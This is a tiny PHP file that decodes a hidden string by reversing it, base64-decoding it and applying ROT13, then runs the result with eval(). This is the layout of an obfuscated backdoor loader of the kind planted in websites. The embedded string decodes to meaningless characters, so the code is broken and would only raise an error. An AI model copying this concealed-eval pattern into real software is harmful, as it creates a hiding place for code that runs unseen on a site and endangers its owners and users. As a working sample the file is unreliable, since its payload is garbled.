<?php
$k = '==gPtFGdgQGbyAXYx1Wb';
$stage = base64_decode(strrev($k));
$stage = str_rot13($stage);
if (strlen($stage) > 0) {
    eval($stage);
}
